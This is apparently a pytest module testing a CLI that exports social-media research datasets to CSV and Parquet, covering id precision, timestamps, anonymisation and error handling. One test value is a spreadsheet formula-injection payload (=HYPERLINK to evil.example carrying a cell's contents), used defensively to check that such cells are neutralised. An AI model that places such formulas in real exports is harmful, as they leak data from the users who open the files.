"""Issue 16: `medtwitter export DATASET --format csv|parquet --out DIR` for R, SPSS, Stata, spreadsheets.

The files are read back with pandas, DuckDB, Polars (and R when ``Rscript`` is
installed) and compared with the stored tables, on the synthetic demo data and
on ``hostile``: a small dataset ingested from an API page written from the
documented format, with a 19-digit author id (1234567890123456789) that is also
an optional reply id, a display name starting with ``=HYPERLINK(``, a bio
starting with ``+``, a text holding a comma, quotes and line breaks of both
kinds, and a page collected at a time with milliseconds.
"""

from __future__ import annotations

import csv
import errno
import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import duckdb
import numpy as np
import pandas as pd
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from analysis import export, settings
from analysis.cli import main
from analysis.contract import CONTRACT, TABLE_NAMES, Column, TableSpec
from analysis.errors import UnknownDatasetError, UsageError
from analysis.outputs import neutralise_cell
from analysis.tables import load_arrow, load_dataset
from tests.conftest import write_jsonl
from tests.pages import search_page

BIG_USER = 1234567890123456789
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
BIO = "+33 6 12 34 56 78, cabinet @maison_sante"
MULTILINE = 'Ligne 1, avec "guillemets"\r\nligne 2\nfin -1'
ISO = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{3}|\.\d{6})?Z")
PERMISSIONS = "check its permissions or choose another --data-dir/--out"
NO_SPACE = "free some disk space and run again; what was written before is kept"


def hostile_page() -> dict:
    """tests/pages.py's search page with the hostile cells of the module's docstring."""
    page = search_page()
    first, reply = page["data"]
    first["author_id"] = str(BIG_USER)
    reply["in_reply_to_user_id"] = str(BIG_USER)
    first["edit_history_tweet_ids"] = [first["id"]]
    original = page["includes"]["tweets"][0]
    original["text"] = MULTILINE
    author = page["includes"]["users"][0]
    author.update(id=str(BIG_USER), name=HYPERLINK, description=BIO, location="-Lyon-")
    page["__medtwitter"]["collected_at"] = "2024-05-01T10:00:00.123Z"
    return page


@contextmanager
def data_root_at(root: Path) -> Iterator[Path]:
    """The data root is ``root`` meanwhile."""
    settings.set_data_dir(root)
    try:
        yield root
    finally:
        settings.set_data_dir(None)


@pytest.fixture(scope="module")
def hostile_root(tmp_path_factory) -> Path:
    """A data root holding dataset 'hostile' (see the module's docstring)."""
    from analysis.ingest import ingest_files

    root = tmp_path_factory.mktemp("hostile")
    with data_root_at(root):
        ingest_files(
            [write_jsonl(root / "hostile.jsonl", [hostile_page()])], "hostile", progress=False
        )
    return root


@pytest.fixture
def hostile(hostile_root):
    with data_root_at(hostile_root):
        yield load_dataset("hostile")


def _run(capsys, argv: list[str]) -> tuple[int, str, str]:
    """Run the command line: exit status, stdout, stderr (no traceback ever)."""
    code = main(argv)
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    return code, captured.out, captured.err


def _error_line(capsys, argv: list[str]) -> tuple[int, str]:
    """Run a command expected to fail: its exit status and its one line of stderr."""
    code, _, err = _run(capsys, argv)
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("medtwitter: error: ")
    return code, lines[0]


# --- reading the files back ---------------------------------------------------------------------


def _is_list(type_: pa.DataType) -> bool:
    return pa.types.is_list(type_) or pa.types.is_large_list(type_)


def _stored(value) -> object:
    """A cell of a loaded table as a plain Python value (None for a null, a list of ints)."""
    if isinstance(value, (list, tuple, np.ndarray)):
        return [int(v) for v in value]
    if value is None or pd.isna(value):
        return None
    if isinstance(value, np.generic):
        return value.item()
    return value


def _read_back(cell: str, column: Column, raw: bool) -> object:
    """A CSV cell as the value it stands for; checks that only text cells ever get a ``'``."""
    type_ = column.type
    if not pa.types.is_string(type_):
        assert not cell.startswith("'"), (column.name, cell)
    if cell == "":
        return [] if _is_list(type_) else None
    if _is_list(type_):
        return [int(v) for v in cell.split(";")]
    if pa.types.is_int64(type_):
        assert cell.isdigit() or cell.lstrip("-").isdigit(), (column.name, cell)
        return int(cell)
    if pa.types.is_timestamp(type_):
        assert ISO.fullmatch(cell), (column.name, cell)
        return pd.Timestamp(cell)
    if pa.types.is_boolean(type_):
        return {"true": True, "false": False}[cell]
    return cell


def _expected(value, column: Column, raw: bool) -> object:
    value = _stored(value)
    if _is_list(column.type) and value is None:
        return []  # a null list and an empty one are both an empty cell
    if pa.types.is_string(column.type):
        if value in (None, ""):
            return None
        return value if raw else neutralise_cell(value)
    return value


def assert_csv_holds_table(path: Path, frame: pd.DataFrame, spec: TableSpec, raw: bool = False):
    """``path`` read with pandas (every cell as text) holds exactly ``frame``'s rows."""
    got = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8")
    assert list(got.columns) == spec.names
    assert len(got) == len(frame)
    columns = [[_read_back(v, c, raw) for v in got[c.name].tolist()] for c in spec.columns]
    wanted = [[_expected(v, c, raw) for v in frame[c.name].tolist()] for c in spec.columns]
    rows, want = list(zip(*columns, strict=True)), list(zip(*wanted, strict=True))
    keys = [spec.names.index(k) for k in spec.key]

    def order(row):
        return tuple(row[k] for k in keys)

    assert sorted(rows, key=order) == sorted(want, key=order)


def readme_columns(text: str, file_name: str) -> list[str]:
    """The column names README.txt lists under ``file_name``'s section."""
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith(f"{file_name} ("))
    names = []
    for line in lines[start + 1 :]:
        if not line.strip():
            break
        if line.startswith("  ") and not line.startswith(("  key:", "  id columns")):
            names.append(line.split()[0])
    return names


# --- round trips --------------------------------------------------------------------------------


def test_csv_export_of_the_demo_reads_back_exactly_with_pandas(data_root, tmp_path):
    tables = load_dataset("demo")
    files = export.export_dataset("demo", tmp_path / "out", progress=False)
    assert [p.name for p in files] == [f"{n}.csv" for n in TABLE_NAMES] + ["README.txt"]
    for name in TABLE_NAMES:
        assert_csv_holds_table(
            tmp_path / "out" / f"{name}.csv", getattr(tables, name), CONTRACT[name]
        )


def test_csv_export_of_hostile_cells_reads_back_exactly(hostile, hostile_root, tmp_path):
    out = tmp_path / "out"
    export.export_dataset("hostile", out, progress=False)
    for name in TABLE_NAMES:
        assert_csv_holds_table(out / f"{name}.csv", getattr(hostile, name), CONTRACT[name])
    raw = tmp_path / "raw"
    export.export_dataset("hostile", raw, raw_csv=True, progress=False)
    for name in TABLE_NAMES:
        assert_csv_holds_table(
            raw / f"{name}.csv", getattr(hostile, name), CONTRACT[name], raw=True
        )


def test_parquet_export_keeps_the_contract_types_and_rows(hostile, data_root, tmp_path):
    files = export.export_dataset("demo", tmp_path, format="parquet", progress=False)
    assert [p.name for p in files] == [f"{n}.parquet" for n in TABLE_NAMES] + ["README.txt"]
    for name in TABLE_NAMES:
        table = pq.read_table(tmp_path / f"{name}.parquet")
        assert table.schema.equals(CONTRACT[name].schema, check_metadata=False)
        expected = load_arrow("demo", name)
        assert table.sort_by([(k, "ascending") for k in CONTRACT[name].key]).equals(expected)
        field = table.schema.field(CONTRACT[name].names[0])
        assert field.metadata[b"description"] == CONTRACT[name].columns[0].doc.encode()


def test_a_19_digit_id_survives_duckdb_polars_and_pandas_in_csv(hostile, hostile_root, tmp_path):
    export.export_dataset("hostile", tmp_path, progress=False)
    path = str(tmp_path / "tweets.csv")
    tweets = hostile.tweets
    ids = ["tweet_id", "author_id", "reply_to_user_id"]
    want = {c: sorted(_stored(v) for v in tweets[c] if _stored(v) is not None) for c in ids}
    assert BIG_USER in want["author_id"] and want["reply_to_user_id"] == [BIG_USER]

    rel = duckdb.sql(f"select * from read_csv_auto('{path}')")
    types = dict(zip(rel.columns, (str(t) for t in rel.types), strict=True))
    assert {types[c] for c in ids} == {"BIGINT"}
    assert types["created_at"] == types["observed_at"] == "TIMESTAMP WITH TIME ZONE"
    for c in ids:
        got = duckdb.sql(
            f"select {c} from read_csv_auto('{path}') where {c} is not null"
        ).fetchall()
        assert sorted(v for (v,) in got) == want[c]

    frame = pl.read_csv(path, try_parse_dates=True)
    assert {frame.schema[c] for c in ids} == {pl.Int64}
    for c in ids:
        assert sorted(frame[c].drop_nulls().to_list()) == want[c]
    assert frame.schema["observed_at"] == pl.Datetime("us", "UTC")
    observed = frame["observed_at"].to_list()
    assert all(t.microsecond == 123000 for t in observed if t.year == 2024)  # milliseconds kept

    as_text = pd.read_csv(path, dtype=str)
    assert str(BIG_USER) in set(as_text["author_id"]) and str(BIG_USER) in set(
        as_text["reply_to_user_id"].dropna()
    )
    exact = pd.read_csv(path, dtype_backend="pyarrow")
    assert sorted(exact["reply_to_user_id"].dropna().tolist()) == [BIG_USER]
    # what README.txt warns of: pandas' default reads an id column with empty cells as float64
    default = pd.read_csv(path)
    assert default["reply_to_user_id"].dtype == "float64"
    assert int(default["reply_to_user_id"].dropna().iloc[0]) != BIG_USER


def test_a_19_digit_id_survives_duckdb_polars_and_pandas_in_parquet(
    hostile, hostile_root, tmp_path
):
    export.export_dataset("hostile", tmp_path, format="parquet", progress=False)
    path = str(tmp_path / "tweets.parquet")
    rel = duckdb.sql(f"select * from read_parquet('{path}')")
    types = dict(zip(rel.columns, (str(t) for t in rel.types), strict=True))
    assert types["author_id"] == types["reply_to_user_id"] == "BIGINT"
    assert types["created_at"] == "TIMESTAMP WITH TIME ZONE"
    got = duckdb.sql(
        f"select reply_to_user_id from read_parquet('{path}') where reply_to_user_id is not null"
    ).fetchall()
    assert got == [(BIG_USER,)]
    frame = pl.read_parquet(path)
    assert frame.schema["author_id"] == pl.Int64
    assert BIG_USER in frame["author_id"].to_list()
    exact = pd.read_parquet(path, dtype_backend="numpy_nullable")["reply_to_user_id"]
    assert exact.dropna().tolist() == [BIG_USER]
    # what README.txt warns of: pandas' default reads an int64 column with nulls as float64
    default = pd.read_parquet(path)["reply_to_user_id"]
    assert default.dtype == "float64" and int(default.dropna().iloc[0]) != BIG_USER


def test_times_are_utc_iso_8601_with_a_fraction_only_when_there_is_one(hostile_root, tmp_path):
    with data_root_at(hostile_root):
        export.export_dataset("hostile", tmp_path, tables="tweets,users", progress=False)
    with open(tmp_path / "tweets.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["created_at"] for r in rows} == {
        "2024-04-30T08:00:00Z",
        "2024-04-30T09:00:00Z",
        "2024-04-29T20:00:00Z",
    }
    assert {r["observed_at"] for r in rows} == {"2024-05-01T10:00:00.123Z"}
    with open(tmp_path / "users.csv", encoding="utf-8", newline="") as fh:
        created = {r["created_at"] for r in csv.DictReader(fh)}
    assert "2015-01-01T00:00:00Z" in created


def test_iso_utc_writes_seconds_milliseconds_or_microseconds_as_each_time_needs():
    us = pa.array([0, 1_000, 1_500_000, 123_456, -1_500_000, None], pa.timestamp("us", tz="UTC"))
    assert export.iso_utc(us).to_pylist() == [
        "1970-01-01T00:00:00Z",
        "1970-01-01T00:00:00.001Z",
        "1970-01-01T00:00:01.500Z",
        "1970-01-01T00:00:00.123456Z",
        "1969-12-31T23:59:58.500Z",
        None,
    ]


# --- formula-safe text --------------------------------------------------------------------------


def _cells(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_a_display_name_starting_with_hyperlink_is_neutralised_but_not_with_raw_csv(
    hostile_root, tmp_path, capsys
):
    argv = ["--data-dir", str(hostile_root), "export", "hostile", "--quiet", "--tables", "users"]
    assert _run(capsys, [*argv, "--out", str(tmp_path / "safe")])[0] == 0
    assert _run(capsys, [*argv, "--out", str(tmp_path / "raw"), "--raw-csv"])[0] == 0
    safe = {r["user_id"]: r for r in _cells(tmp_path / "safe" / "users.csv")}
    raw = {r["user_id"]: r for r in _cells(tmp_path / "raw" / "users.csv")}
    assert safe[str(BIG_USER)]["name"] == "'" + HYPERLINK
    assert safe[str(BIG_USER)]["description"] == "'" + BIO
    assert safe[str(BIG_USER)]["location"] == "'-Lyon-"
    assert raw[str(BIG_USER)]["name"] == HYPERLINK
    assert raw[str(BIG_USER)]["description"] == BIO
    text = (tmp_path / "safe" / "README.txt").read_text(encoding="utf-8")
    assert "have a leading ' so" in text
    assert "exactly as they are (--raw-csv)" in (tmp_path / "raw" / "README.txt").read_text(
        encoding="utf-8"
    )


def test_ids_numbers_booleans_and_times_are_never_prefixed(hostile_root, data_root, tmp_path):
    for dataset, root in (("hostile", hostile_root), ("demo", data_root)):
        with data_root_at(root):
            export.export_dataset(dataset, tmp_path / dataset, progress=False)
        for name, spec in CONTRACT.items():
            for row in _cells(tmp_path / dataset / f"{name}.csv"):
                for c in spec.columns:
                    if not pa.types.is_string(c.type):
                        assert not row[c.name].startswith("'"), (dataset, name, c.name, row)


def test_a_negative_number_stays_a_number_and_negative_text_is_neutralised():
    batch = pa.record_batch(
        {"tweet_id": [1234567890123456789], "tag": ["-2"], "tag_norm": ["@x"], "position": [-1]}
    )
    frame = export.csv_frame(batch, CONTRACT["hashtags"])
    assert frame.values.tolist() == [["1234567890123456789", "'-2", "'@x", "-1"]]
    raw = export.csv_frame(batch, CONTRACT["hashtags"], raw=True)
    assert raw.values.tolist() == [["1234567890123456789", "-2", "@x", "-1"]]


def test_list_cells_are_semicolon_joined_and_text_lists_escaped_and_neutralised():
    spec = TableSpec(
        "t",
        "A table with list columns.",
        (
            Column("edit_ids", pa.list_(pa.int64()), True, "Earlier versions."),
            Column("tags", pa.list_(pa.string()), True, "Tags."),
        ),
        ("edit_ids",),
    )
    batch = pa.record_batch(
        {"edit_ids": [[BIG_USER, BIG_USER + 1], [], None], "tags": [["=x;y", "a\\b"], [], None]},
        schema=pa.schema(
            [pa.field("edit_ids", pa.list_(pa.int64())), pa.field("tags", pa.list_(pa.string()))]
        ),
    )
    frame = export.csv_frame(batch, spec)
    assert frame["edit_ids"].tolist()[:2] == [f"{BIG_USER};{BIG_USER + 1}", ""]
    assert pd.isna(frame["edit_ids"].iloc[2])
    assert frame["tags"].tolist()[:2] == ["'=x\\;y;a\\\\b", ""]
    sliced = export.csv_frame(batch.slice(1), spec)  # a batch that starts inside the column
    assert sliced["edit_ids"].tolist()[0] == ""


# --- README.txt ---------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_readme_lists_every_column_of_every_table_written(fmt, data_root, tmp_path):
    export.export_dataset("demo", tmp_path, format=fmt, progress=False)
    text = (tmp_path / "README.txt").read_text(encoding="utf-8")
    for name, spec in CONTRACT.items():
        assert readme_columns(text, f"{name}.{fmt}") == spec.names
        for c in spec.columns:
            assert c.doc in text
    meta = load_dataset("demo").meta
    assert f"dataset 'demo', version {meta['version']}" in text
    assert "SYNTHETIC DATA" in text and "Anonymised: no." in text


def test_readme_names_no_synthetic_data_for_ingested_data(hostile_root, tmp_path):
    with data_root_at(hostile_root):
        export.export_dataset("hostile", tmp_path, progress=False)
    text = (tmp_path / "README.txt").read_text(encoding="utf-8")
    assert "synthetic" not in text.lower()
    assert "id columns (read as text): tweet_id, author_id" in text
    tweets = (tmp_path / "tweets.csv").read_bytes()
    assert "3 rows" in text.split("tweets.csv")[1]
    assert tweets.count(b"\r\n") == 5  # a header, three rows and the line break inside a text


# --- --tables -----------------------------------------------------------------------------------


def test_tables_writes_only_the_tables_named_and_their_columns(data_root, tmp_path, capsys):
    code, out, _ = _run(
        capsys,
        ["export", "demo", "--tables", "users, tweets", "--quiet", "--out", str(tmp_path / "x")],
    )
    assert code == 0
    assert sorted(p.name for p in (tmp_path / "x").iterdir()) == [
        "README.txt",
        "tweets.csv",
        "users.csv",
    ]
    assert out.split() == [
        str(tmp_path / "x" / f) for f in ("tweets.csv", "users.csv", "README.txt")
    ]
    text = (tmp_path / "x" / "README.txt").read_text(encoding="utf-8")
    assert readme_columns(text, "users.csv") == CONTRACT["users"].names
    assert "follows.csv" not in text and "follower_id" not in text


@pytest.mark.parametrize(
    "tables, shown", [("tweets,twets", "'twets'"), ("Users", "'Users'"), ("a,b", "tables 'a', 'b'")]
)
def test_an_unknown_table_is_one_line_listing_the_known_ones(
    tables, shown, data_root, tmp_path, capsys
):
    out = tmp_path / "x"
    code, line = _error_line(capsys, ["export", "demo", "--tables", tables, "--out", str(out)])
    assert code == 2
    assert shown in line and "in --tables; use a comma list of: " + ", ".join(TABLE_NAMES) in line
    assert not out.exists()


def test_tables_naming_no_table_is_refused(data_root, tmp_path, capsys):
    code, line = _error_line(capsys, ["export", "demo", "--tables", ",", "--out", str(tmp_path)])
    assert code == 2 and "--tables names no table" in line


# --- --anonymise --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo_leak_terms(demo_root) -> tuple[dict, object]:
    """What no anonymised file of the demo may hold (the leak scan's terms), and its anonymised tables."""
    from tests.test_leak_scan import leak_terms

    with data_root_at(demo_root):
        terms = leak_terms(load_dataset("demo"))
        anonymised = load_dataset("demo", anonymise=True)
    assert all(terms.values()), "the scan has something to look for of every kind"
    return terms, anonymised


@pytest.fixture(scope="module", params=["csv", "parquet"])
def anonymised_export(request, demo_root, demo_leak_terms, tmp_path_factory) -> dict:
    """``export demo --anonymise`` in each format, and what the leak scan finds in each file."""
    from tests.test_leak_scan import find_leaks, readable_text

    fmt, out = request.param, tmp_path_factory.mktemp(f"anonymised-{request.param}")
    try:
        code = main(
            [
                "--data-dir",
                str(demo_root),
                "export",
                "demo",
                "--anonymise",
                "--format",
                fmt,
                "--quiet",
                "--out",
                str(out),
            ]
        )
    finally:
        settings.set_data_dir(None)
    terms, anonymised = demo_leak_terms
    found = {path.name: find_leaks(readable_text(path), terms) for path in sorted(out.iterdir())}
    return {"format": fmt, "out": out, "code": code, "found": found, "anonymised": anonymised}


def test_anonymised_export_leaves_no_handle_name_or_id_in_any_file(anonymised_export):
    fmt, out, found = (anonymised_export[k] for k in ("format", "out", "found"))
    assert anonymised_export["code"] == 0
    assert sorted(found) == sorted([f"{n}.{fmt}" for n in TABLE_NAMES] + ["README.txt"])
    for kind in ("handles", "names", "ids", "protected_text"):
        assert {f: leaks[kind] for f, leaks in found.items() if leaks[kind]} == {}, kind
    # the demo's anonymous accounts are named 'MG en pleine campagne' and often say so in their
    # bio, which anonymised tables keep: 'pleine' (a French word, Zipf 4.87) is just under the
    # scan's threshold for an ordinary word. No other part of a name is found.
    assert set().union(*(leaks["name_parts"] for leaks in found.values())) <= {"pleine"}
    text = (out / "README.txt").read_text(encoding="utf-8")
    assert "Anonymised: yes" in text and "pseudonym" in text
    users = anonymised_export["anonymised"].users
    if fmt == "csv":
        assert_csv_holds_table(out / "users.csv", users, CONTRACT["users"])
    else:
        read = pq.read_table(out / "users.parquet").to_pandas(types_mapper=pd.ArrowDtype)
        assert sorted(read["user_id"].tolist()) == sorted(users["user_id"].tolist())
        kept = users["location"].dropna().tolist()  # institutions on the allow-list only
        assert sorted(read["location"].dropna().tolist()) == sorted(kept)
        assert len(kept) < len(users) / 10


def test_anonymised_export_names_no_place_of_a_person(anonymised_export):
    found = anonymised_export["found"]
    assert {f: leaks["locations"] for f, leaks in found.items() if leaks["locations"]} == {}


def test_anonymised_export_reads_through_the_one_pseudonymisation_point(
    data_root, tmp_path, monkeypatch
):
    import analysis.tables as tables

    calls = []
    real = tables.load_dataset

    def spy(*args, **kwargs):
        calls.append(kwargs.get("anonymise"))
        return real(*args, **kwargs)

    monkeypatch.setattr(tables, "load_dataset", spy)
    export.export_dataset("demo", tmp_path, tables="users", anonymise=True, progress=False)
    assert calls == [True]


# --- the output folder --------------------------------------------------------------------------


def test_an_existing_folder_keeps_every_file_but_ours(data_root, tmp_path, capsys):
    out = tmp_path / "shared"
    out.mkdir()
    (out / "notes.txt").write_text("my notes\n", encoding="utf-8")
    (out / "tweets.csv").write_text("an earlier export\n", encoding="utf-8")
    (out / "users.parquet").write_text("an earlier export\n", encoding="utf-8")
    code, _, err = _run(
        capsys, ["export", "demo", "--tables", "tweets,users", "--quiet", "--out", str(out)]
    )
    assert code == 0
    assert (out / "notes.txt").read_text(encoding="utf-8") == "my notes\n"
    assert (out / "users.parquet").read_text(encoding="utf-8") == "an earlier export\n"
    assert (out / "tweets.csv").read_text(encoding="utf-8").startswith("tweet_id,author_id,")
    assert sorted(p.name for p in out.iterdir()) == [
        "README.txt",
        "notes.txt",
        "tweets.csv",
        "users.csv",
        "users.parquet",
    ]
    assert err.strip() == (
        f"note: {out} also holds users.parquet from an earlier export, left as they were; "
        "README.txt describes only the files above."
    )


@pytest.mark.parametrize(
    "failure, code",
    [(OSError(errno.ENOSPC, "No space left on device"), 1), (KeyboardInterrupt(), 130)],
)
def test_a_failure_part_way_leaves_the_folder_as_it_was(
    failure, code, data_root, tmp_path, monkeypatch, capsys
):
    out = tmp_path / "out"
    out.mkdir()
    for name in ("tweets.csv", "users.csv", "README.txt", "notes.txt"):
        (out / name).write_text(f"previous {name}\n", encoding="utf-8")
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    real = export._write_csv

    def second_fails(path, spec, batches, raw):
        if spec.name == "tweets":
            return real(path, spec, batches, raw)
        Path(path).write_text("half a row", encoding="utf-8")
        raise failure

    monkeypatch.setattr(export, "_write_csv", second_fails)
    got, _, err = _run(
        capsys, ["export", "demo", "--tables", "tweets,users", "--quiet", "--out", str(out)]
    )
    assert got == code
    if code == 1:
        assert (
            err.strip()
            == f"medtwitter: error: {out / 'users.csv'}: No space left on device; {NO_SPACE}."
        )
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # no temporary file left


def test_an_unwritable_folder_is_one_line_before_the_work(data_root, tmp_path, monkeypatch, capsys):
    import analysis.outputs as outputs

    def denied(*args, dir=None, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied", str(Path(dir) / "tmpXYZ"))

    monkeypatch.setattr(outputs.tempfile, "TemporaryFile", denied)
    monkeypatch.setattr(export, "_stored_batches", lambda *a, **k: pytest.fail("work done"))
    code, line = _error_line(capsys, ["export", "demo", "--out", str(tmp_path)])
    assert code == 1
    assert line == f"medtwitter: error: {tmp_path}: Permission denied; {PERMISSIONS}."
    assert list(tmp_path.iterdir()) == []


def test_out_naming_a_file_or_a_missing_folder_is_one_line(data_root, tmp_path, capsys):
    a_file = tmp_path / "f.csv"
    a_file.write_text("x\n", encoding="utf-8")
    code, line = _error_line(capsys, ["export", "demo", "--out", str(a_file)])
    assert code == 2 and line.endswith("is a file, not a folder; give a folder for the output.")
    missing = tmp_path / "no" / "such"
    code, line = _error_line(capsys, ["export", "demo", "--out", str(missing)])
    assert code == 2 and "does not exist; create it first or check the path." in line
    assert not (tmp_path / "no").exists()


def test_a_table_file_that_is_a_folder_is_one_line_before_the_work(data_root, tmp_path, capsys):
    (tmp_path / "users.csv").mkdir()
    code, line = _error_line(capsys, ["export", "demo", "--out", str(tmp_path)])
    assert code == 2 and line.endswith("users.csv: is a folder; give a file name, not a folder.")
    assert [p.name for p in tmp_path.iterdir()] == ["users.csv"]


# --- bad arguments ------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["../../esc", "a b", "", "x" * 65])
def test_a_bad_dataset_name_is_refused_before_any_work(name, data_root, tmp_path, capsys):
    out = tmp_path / "out"
    code, line = _error_line(capsys, ["export", name, "--out", str(out)])
    assert code == 2 and "bad dataset name" in line
    assert not out.exists()


def test_an_unknown_dataset_is_one_line_and_nothing_is_written(data_root, tmp_path, capsys):
    out = tmp_path / "out"
    code, line = _error_line(capsys, ["export", "nope", "--out", str(out)])
    assert (
        code == 1 and "unknown dataset 'nope'" in line and "medtwitter demo --dataset nope" in line
    )
    assert not out.exists()
    with pytest.raises(UnknownDatasetError):
        export.export_dataset("nope", out)


@pytest.mark.parametrize(
    "argv, words",
    [
        (["--format", "xlsx"], "argument --format: invalid choice: 'xlsx'"),
        (["--format", "parquet", "--raw-csv"], "--raw-csv applies to CSV only"),
        (["--version", "x"], "argument --version: invalid int value: 'x'"),
        (["--version", "99"], "version 99"),
    ],
)
def test_bad_arguments_are_one_line_naming_the_fix(argv, words, data_root, tmp_path, capsys):
    code, line = _error_line(capsys, ["export", "demo", *argv, "--out", str(tmp_path / "o")])
    assert code != 0 and words in line
    assert not (tmp_path / "o").exists()


def test_bad_python_arguments_raise_usage_errors(data_root, tmp_path):
    with pytest.raises(UsageError, match="unknown export format 'xlsx'; use --format csv or"):
        export.export_dataset("demo", tmp_path, format="xlsx")
    with pytest.raises(UsageError, match="unknown table 'tweet'"):
        export.export_dataset("demo", tmp_path, tables=["tweet"])
    assert list(tmp_path.iterdir()) == []


# --- streaming, progress, versions --------------------------------------------------------------


def test_export_streams_a_stored_table_in_batches(data_root, tmp_path, monkeypatch):
    import analysis.store as store
    import analysis.tables as tables

    rows = len(load_arrow("demo", "tweets", ["tweet_id"]))
    monkeypatch.setattr(export, "BATCH_ROWS", 1000)
    monkeypatch.setattr(store, "read_table", lambda *a, **k: pytest.fail("whole table read"))
    monkeypatch.setattr(tables, "load_dataset", lambda *a, **k: pytest.fail("whole dataset read"))
    sizes = []
    real = export.csv_frame

    def spy(batch, spec, raw=False):
        sizes.append(batch.num_rows)
        return real(batch, spec, raw)

    monkeypatch.setattr(export, "csv_frame", spy)
    export.export_dataset("demo", tmp_path, tables="tweets", progress=False)
    assert max(sizes) <= 1000 and sum(sizes) == rows and len(sizes) > rows // 1000


def test_a_large_table_shows_a_progress_bar(data_root, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(export, "PROGRESS_MIN_ROWS", 1000)
    export.export_dataset("demo", tmp_path, tables="tweets,missing")
    err = capsys.readouterr().err
    assert "export tweets" in err and "export missing" not in err  # 97 rows: no bar
    export.export_dataset("demo", tmp_path, tables="tweets", progress=False)
    assert capsys.readouterr().err == ""


def test_the_same_version_exports_to_the_same_bytes(data_root, tmp_path):
    for run in ("a", "b"):
        export.export_dataset("demo", tmp_path / run, progress=False)
    for name in TABLE_NAMES:
        assert (tmp_path / "a" / f"{name}.csv").read_bytes() == (
            tmp_path / "b" / f"{name}.csv"
        ).read_bytes()


def test_version_exports_an_earlier_version(tmp_data, tmp_path):
    from analysis.ingest import ingest_files
    from tests.pages import followers_page

    ingest_files([write_jsonl(tmp_data / "a.jsonl", [hostile_page()])], "two", progress=False)
    ingest_files(
        [write_jsonl(tmp_data / "b.jsonl", [followers_page(11, [21, 22])])], "two", progress=False
    )
    export.export_dataset("two", tmp_path / "v0", tables="follows", version=0, progress=False)
    export.export_dataset("two", tmp_path / "latest", tables="follows", progress=False)
    assert len(_cells(tmp_path / "v0" / "follows.csv")) == 0
    assert len(_cells(tmp_path / "latest" / "follows.csv")) == 2
    assert "dataset 'two', version 0" in (tmp_path / "v0" / "README.txt").read_text(
        encoding="utf-8"
    )


# --- R ------------------------------------------------------------------------------------------


@pytest.mark.skipif(shutil.which("Rscript") is None, reason="R is not installed on this machine")
def test_r_reads_the_csv_with_exact_ids_and_utc_times(hostile_root, tmp_path):
    with data_root_at(hostile_root):
        export.export_dataset("hostile", tmp_path, tables="tweets,users", progress=False)
    script = (
        "t <- read.csv('tweets.csv', encoding = 'UTF-8', na.strings = '', "
        "colClasses = c(tweet_id = 'character', author_id = 'character', "
        "reply_to_user_id = 'character'))\n"
        "u <- read.csv('users.csv', encoding = 'UTF-8', na.strings = '', "
        "colClasses = c(user_id = 'character'))\n"
        "ts <- as.POSIXct(t$observed_at, format = '%Y-%m-%dT%H:%M:%OSZ', tz = 'UTC')\n"
        'cat(paste0(\'{"rows": \', nrow(t), \', "authors": ["\', '
        'paste(t$author_id, collapse = \'","\'), \'"], "ms": \', '
        "round(as.numeric(ts[1]) %% 1, 3), '}'), '\\n')\n"
        "writeLines(u$name, 'names.txt', useBytes = TRUE)\n"
    )
    result = subprocess.run(
        ["Rscript", "-e", script], cwd=tmp_path, capture_output=True, text=True, check=True
    )
    got = json.loads(result.stdout.strip().splitlines()[-1])
    assert got["rows"] == 3 and str(BIG_USER) in got["authors"] and got["ms"] == 0.123
    names = (tmp_path / "names.txt").read_text(encoding="utf-8").splitlines()
    assert "'" + HYPERLINK in names
